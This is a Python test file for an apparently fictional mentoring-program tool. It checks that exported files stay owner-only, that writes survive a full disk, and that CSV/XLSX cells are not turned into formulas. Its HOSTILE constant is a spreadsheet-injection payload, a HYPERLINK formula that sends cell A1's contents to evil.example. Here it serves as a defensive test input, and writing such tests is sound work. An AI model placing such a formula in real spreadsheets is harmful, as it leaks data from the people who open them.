"""Files that name people are owner-only whatever the umask, whole or absent, and formula-free."""

from __future__ import annotations

import csv
import errno
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mentordesk.cli import main
from mentordesk.core.errors import MentorDeskError
from mentordesk.core.private_files import write_private
from mentordesk.core.storage.database import Database
from tests.factories import (
    make_application,
    make_cohort,
    make_event,
    make_pairing,
    make_program,
)

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")'


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def no_umask() -> Iterator[None]:
    """The most careless setting a desktop can have: every new file world-writable."""
    old = os.umask(0)
    try:
        yield
    finally:
        os.umask(old)


def a_cohort_with_pairs_and_events(db: Database, cohort_name: str = "2026–27") -> None:
    with db.transaction() as session:
        program = make_program(session, "association", name="+Case Management Society")
        cohort = make_cohort(session, program, name=cohort_name)
        make_pairing(session, cohort, emphasis_area="Caseload")
        make_pairing(session, cohort, emphasis_area="@Boundaries")
        make_event(session, cohort, "workshop", title="-Orientation")
        make_event(session, cohort, "workshop", title=HOSTILE)


def test_every_export_is_owner_only_under_umask_000(
    db: Database, db_path: Path, tmp_path: Path, no_umask: None
) -> None:
    a_cohort_with_pairs_and_events(db)
    out = tmp_path / "exports" / "2026"  # folders MentorDesk creates
    base = ["--db", str(db_path)]
    cohort = ["--cohort", "2026–27"]
    assert main([*base, "export", "agreements", *cohort, "--out", str(out / "agreements")]) == 0
    for name in ("summary.pdf", "summary.xlsx", "summary.csv"):
        assert main([*base, "export", "summary", *cohort, "--out", str(out / name)]) == 0
    assert main([*base, "export", "calendar", *cohort, "--out", str(out / "year.ics")]) == 0
    assert main([*base, "backup", "--out", str(out / "copy.db")]) == 0
    files = [p for p in (tmp_path / "exports").rglob("*") if p.is_file()]
    folders = [p for p in (tmp_path / "exports").rglob("*") if p.is_dir()]
    assert len(files) == 3 + 3 + 1 + 1  # two agreements and the combined one, …
    assert {p.name: mode(p) for p in files} == {p.name: 0o600 for p in files}
    assert {mode(p) for p in [tmp_path / "exports", *folders]} == {0o700}
    assert not [p for p in files if p.name.startswith(".")]  # no partial file left


def test_an_existing_folder_chosen_by_the_user_keeps_its_permissions(
    db: Database, db_path: Path, tmp_path: Path
) -> None:
    a_cohort_with_pairs_and_events(db)
    shared = tmp_path / "Documents"
    shared.mkdir(mode=0o755)
    shared.chmod(0o755)
    out = shared / "year.ics"
    assert (
        main(["--db", str(db_path), "export", "calendar", "--cohort", "2026–27", "--out", str(out)])
        == 0
    )
    assert (mode(shared), mode(out)) == (0o755, 0o600)


def test_a_full_disk_leaves_the_previous_calendar_not_a_zero_byte_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "year.ics"
    target.write_bytes(b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")

    def full_disk(_fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(os, "fsync", full_disk)
    with pytest.raises(MentorDeskError, match="No space left on device"):
        write_private(target, b"BEGIN:VCALENDAR\r\n" + b"X" * 10_000)
    assert target.read_bytes() == b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"
    assert [p.name for p in tmp_path.iterdir()] == ["year.ics"]


def test_formula_cells_stay_text_in_the_summary_csv_and_xlsx(
    db: Database, db_path: Path, tmp_path: Path
) -> None:
    a_cohort_with_pairs_and_events(db, cohort_name=HOSTILE)
    base = ["--db", str(db_path), "export", "summary", "--cohort", HOSTILE]
    assert main([*base, "--out", str(tmp_path / "s.csv")]) == 0
    assert main([*base, "--out", str(tmp_path / "s.xlsx")]) == 0

    with open(tmp_path / "s.csv", encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert f"'{HOSTILE}" in cells
    assert "'+Case Management Society" in cells
    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-")]
    assert risky == [] or all(c.lstrip("-").replace(".", "").isdigit() for c in risky)

    book = load_workbook(tmp_path / "s.xlsx")
    texts = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in texts if c.data_type == "f"]
    assert HOSTILE in [c.value for c in texts]  # exactly what the committee typed
    assert "+Case Management Society" in [c.value for c in texts]


def test_the_mentor_registry_is_private_and_a_typed_request_stays_text(
    db: Database, db_path: Path, tmp_path: Path, no_umask: None
) -> None:
    with db.transaction() as session:
        cohort = make_cohort(session, name="2026 Registry", preset="credential")
        make_application(session, cohort, "mentor", first_name="Ingrid", last_name="Sørensen")
        make_application(session, cohort, "mentee", requested_mentor=HOSTILE)
    out = tmp_path / "new folder" / "registry.xlsx"
    base = ["--db", str(db_path), "registry", "--cohort", "2026 Registry"]
    assert main([*base, "--out", str(out)]) == 0
    assert main([*base, "--out", str(out.with_suffix(".pdf"))]) == 0
    assert {mode(out), mode(out.with_suffix(".pdf")), mode(out.parent)} == {0o600, 0o700}
    cells = [c for sheet in load_workbook(out).worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert HOSTILE in [c.value for c in cells]
